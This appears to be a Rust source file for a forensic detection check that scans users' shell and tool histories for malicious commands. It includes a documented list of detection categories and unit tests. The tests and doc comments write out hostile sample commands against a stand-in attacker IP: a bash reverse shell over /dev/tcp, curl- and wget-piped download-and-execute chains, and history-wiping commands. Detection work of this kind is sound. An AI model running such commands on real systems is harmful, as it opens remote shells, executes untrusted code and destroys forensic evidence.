//! `history.suspicious_command` — commands in users' shell and tool histories that match the
//! malicious-command detector.
//!
//! **What it looks at:** every history file of every home (`~/.bash_history`, zsh, fish, sh/ash,
//! python, mysql, psql, redis-cli, less, viminfo — see `huoyan_artifacts::history`) of every
//! account, `/root`, orphaned directories under `/home`, and the stray places where shells with
//! no usable HOME write theirs (`/`, `/tmp`, `/var/tmp`, `/dev/shm`; the user is the file's
//! owner). Each entry goes through
//! `huoyan_cmdscan`: reverse shells, download-and-execute, `chmod +x` and `./` from /tmp or
//! hidden directories, compilers, tunnels and scanners (nmap, masscan, frp, ngrok, socat,
//! ssh -D/-R, proxychains, fscan), credential access (/etc/shadow, id_rsa, mimipenguin), hidden
//! files and sensitive suffixes, persistence edits (crontab -e, systemctl enable,
//! authorized_keys), anti-forensics (history -c, unset HISTFILE, HISTSIZE=0, rm of logs,
//! shred, touch -r/-d, chattr +i). Entries with a timestamp outside `--since`/`--until` are
//! skipped; entries without one are always examined.
//!
//! **Why an attacker leaves this trace:** an interactive shell records what it runs unless told
//! not to, and intruders work fast: the download, the `chmod +x`, the reverse shell and the
//! attempt to wipe the history often all sit in the same file.
//!
//! **Example:** `/root/.bash_history` line 212 (2026-11-27 03:12:09 UTC):
//! `curl -fsSL http://198.51.100.4/x.sh | bash` → download_exec, high.
//!
//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
//! medium for what needs a look, low and info for context; a weakness rather than an act is
//! marked `hardening` (docs/PRECISION.md).
//!
//! **ATT&CK:** T1059.004 (Unix Shell), plus the technique of every rule that matched.

use huoyan_artifacts::history::read_user_histories;
use huoyan_core::{CheckInfo, Gap, GapReason, Outcome};

use crate::command_findings::{finding_for, CommandSource};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct SuspiciousHistoryCommand;

/// Directories outside any home where histories of hijacked service shells end up.
const STRAY_HISTORY_DIRS: &[&str] = &["/", "/tmp", "/var/tmp", "/dev/shm"];

/// At most this many low-severity findings per history file (a history full of `make` is not
/// 5,000 findings). Medium-or-worse entries are always reported.
pub const MAX_LOW_FINDINGS_PER_FILE: usize = 300;

static INFO: CheckInfo = CheckInfo {
    id: "history.suspicious_command",
    title: "Suspicious command in a shell or tool history",
    title_zh: "shell 或工具历史记录中存在可疑命令",
    mitre: &["T1059.004"],
    remediation: "Read the history around this line to reconstruct the session; correlate its \
                  time with auth logs and wtmp to find the login it came from.",
    remediation_zh: "阅读该行前后的历史记录以还原操作过程；结合认证日志和 wtmp \
                     中的时间找到对应的登录来源。",
};

impl Check for SuspiciousHistoryCommand {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let recent: Vec<String> = crate::accounts::recent::recent_accounts(ctx)
            .into_iter()
            .map(|r| r.name)
            .collect();
        let mut places: Vec<(String, String, bool)> = crate::homes::homes(ctx)
            .into_iter()
            .map(|h| (h.user, h.path, h.orphaned))
            .collect();
        // Shells started by a webshell or an exploit often run with HOME unset or pointing at
        // a scratch directory, so their history lands here; the owner comes from the file.
        for dir in STRAY_HISTORY_DIRS {
            places.push((String::new(), dir.to_string(), false));
        }
        for (user, path, orphaned) in places {
            let home = crate::homes::Home {
                user,
                path,
                orphaned,
                shell: None,
            };
            let (files, errors) = read_user_histories(&ctx.root, &home.user, &home.path);
            for e in &errors {
                out.gap_from(INFO.id, e, true);
            }
            for file in files {
                if file.truncated {
                    out.gap(Gap {
                        area: INFO.id.into(),
                        path: Some(file.path.clone()),
                        reason: GapReason::Truncated,
                        detail: "history larger than the read cap; only its start was examined"
                            .into(),
                    });
                }
                // Low hits (a compiler run, a `systemctl enable`) are capped per file; alerts
                // never are, so padding a history with noise cannot hide a reverse shell.
                let mut low_reported = 0usize;
                let mut low_dropped = 0usize;
                for (index, entry) in file.entries.iter().enumerate() {
                    if !ctx.window.contains(entry.time) {
                        continue;
                    }
                    let hits = huoyan_cmdscan::scan(&entry.command);
                    if hits.is_empty() {
                        continue;
                    }
                    if !hits.iter().any(|h| h.is_alert()) {
                        if low_reported >= MAX_LOW_FINDINGS_PER_FILE {
                            low_dropped += 1;
                            continue;
                        }
                        low_reported += 1;
                    }
                    let owner = if home.user.is_empty() {
                        ctx.users().user_label(file.meta.uid)
                    } else {
                        home.user.clone()
                    };
                    let source = CommandSource {
                        path: &file.path,
                        line: entry.line,
                        user: Some(&owner),
                        time: entry.time,
                        what: "history entry",
                    };
                    if let Some(mut f) = finding_for(&INFO, &source, &entry.command, &hits) {
                        let settled =
                            super::context::settle(ctx, &file.entries, index, &hits, &recent);
                        if let Some(obj) = f.evidence.as_object_mut() {
                            obj.insert("history_kind".into(), serde_json::json!(file.kind));
                            obj.insert("orphaned_home".into(), serde_json::json!(home.orphaned));
                            if let Some((_, why)) = &settled {
                                obj.insert("settled_by".into(), serde_json::json!(why));
                            }
                        }
                        if let Some((severity, why)) = settled {
                            f.severity = severity;
                            f.summary = format!("{} [{why}]", f.summary);
                        }
                        out.add(f.at(entry.time));
                    }
                }
                if low_dropped > 0 {
                    out.gap(Gap {
                        area: INFO.id.into(),
                        path: Some(file.path.clone()),
                        reason: GapReason::Truncated,
                        detail: format!(
                            "{low_dropped} more low-severity entries (compilers, edits …) not reported; \
                             every medium-or-worse entry was"
                        ),
                    });
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use huoyan_core::{Root, Severity, Window};

    fn ctx_with(files: &[(&str, &[u8])]) -> (tempfile::TempDir, Context) {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(dir.path().join("etc")).expect("mkdir");
        std::fs::write(
            dir.path().join("etc/passwd"),
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        )
        .expect("passwd");
        for (path, data) in files {
            let p = dir.path().join(path.trim_start_matches('/'));
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, data).expect("write");
        }
        let ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        (dir, ctx)
    }

    #[test]
    fn flags_attacker_history_with_line_user_and_time() {
        let (_d, ctx) = ctx_with(&[
            (
                "/home/alice/.bash_history",
                b"ls\n#1700000000\nwget http://198.51.100.4/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n#1700000100\nhistory -c\n",
            ),
            ("/root/.zsh_history", b": 1700000200:0;bash -i >& /dev/tcp/198.51.100.4/443 0>&1\n"),
        ]);
        let mut out = Outcome::default();
        SuspiciousHistoryCommand.run(&ctx, &mut out);
        let download = out
            .findings
            .iter()
            .find(|f| f.paths == ["/home/alice/.bash_history"] && f.evidence["line"] == 3)
            .expect("download finding");
        assert_eq!(download.users, ["alice"]);
        assert_eq!(download.time.map(|t| t.as_second()), Some(1_700_000_000));
        assert!(download.severity >= Severity::High);
        assert!(out
            .findings
            .iter()
            .any(|f| f.evidence["line"] == 5 && f.summary.contains("anti_forensics")));
        let revshell = out
            .findings
            .iter()
            .find(|f| f.paths == ["/root/.zsh_history"])
            .expect("zsh finding");
        assert_eq!(revshell.severity, Severity::Critical);
        assert_eq!(revshell.users, ["root"]);
    }

    #[test]
    fn stray_histories_are_read_with_their_owner() {
        let (_d, ctx) = ctx_with(&[(
            "/tmp/.bash_history",
            b"id\ncurl -s http://198.51.100.4/x | sh\n",
        )]);
        let mut out = Outcome::default();
        SuspiciousHistoryCommand.run(&ctx, &mut out);
        let f = out
            .findings
            .iter()
            .find(|f| f.paths == ["/tmp/.bash_history"])
            .expect("stray history");
        assert_eq!(f.evidence["line"], 2);
        assert_eq!(f.users.len(), 1);
    }

    #[test]
    fn window_filters_timed_entries() {
        let (_d, mut ctx) = ctx_with(&[(
            "/root/.bash_history",
            b"#1600000000\nhistory -c\n#1700000000\nunset HISTFILE\n",
        )]);
        ctx.window.since = huoyan_core::time::from_unix(1_650_000_000, 0);
        let mut out = Outcome::default();
        SuspiciousHistoryCommand.run(&ctx, &mut out);
        assert_eq!(out.findings.len(), 1);
        assert_eq!(out.findings[0].evidence["line"], 4);
    }

    fn severity_at(out: &Outcome, line: usize) -> Option<Severity> {
        out.findings
            .iter()
            .find(|f| f.evidence["line"] == line)
            .map(|f| f.severity)
    }

    #[test]
    fn past_administration_is_low_but_a_new_account_or_a_run_download_is_not() {
        let today = huoyan_core::time::now().as_second() / 86_400;
        let dir = tempfile::tempdir().expect("tempdir");
        let w = |p: &str, data: String| {
            let p = dir.path().join(p.trim_start_matches('/'));
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, data).expect("write");
        };
        w(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nmchen:x:1001:1001::/home/mchen:/bin/bash\n\
             eve:x:1002:1002::/nonexistent:/bin/bash\n"
                .into(),
        );
        let mut shadow = String::new();
        for n in ["root", "mchen", "a", "b", "c", "d"] {
            shadow.push_str(&format!("{n}:$y$x$y:{}:0:99999:7:::\n", today - 200));
        }
        shadow.push_str(&format!("eve:$y$x$y:{}:0:99999:7:::\n", today - 1));
        w("/etc/shadow", shadow);
        w(
            "/root/.bash_history",
            "adduser mchen\nusermod -aG sudo mchen\nadduser eve\nusermod -aG sudo eve\n\
             curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/setup.sh\n\
             less /tmp/setup.sh\nrm /tmp/setup.sh\n\
             curl -fsSL https://example.net/tool -o /tmp/tool\nbash /tmp/tool\nrm /tmp/tool\n"
                .into(),
        );
        let ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        let mut out = Outcome::default();
        SuspiciousHistoryCommand.run(&ctx, &mut out);
        // mchen exists and is old: past administration.
        assert_eq!(
            severity_at(&out, 1),
            Some(Severity::Low),
            "{:#?}",
            out.findings
        );
        assert_eq!(severity_at(&out, 2), Some(Severity::Low));
        // eve was created yesterday: still a lead.
        assert_eq!(severity_at(&out, 3), Some(Severity::Medium));
        assert_eq!(severity_at(&out, 4), Some(Severity::Medium));
        // read and deleted, never run: low; run: keeps its severity.
        assert_eq!(severity_at(&out, 5), Some(Severity::Low));
        assert!(severity_at(&out, 8) >= Some(Severity::Medium));
    }

    #[test]
    fn benign_history_is_quiet() {
        let (_d, ctx) = ctx_with(&[(
            "/home/alice/.bash_history",
            b"ls -la\ncd /var/www\ngit pull\nsudo systemctl restart nginx\ntail -f /var/log/nginx/error.log\nvim index.php\n",
        )]);
        let mut out = Outcome::default();
        SuspiciousHistoryCommand.run(&ctx, &mut out);
        assert!(out.findings.is_empty(), "{:?}", out.findings);
    }
}
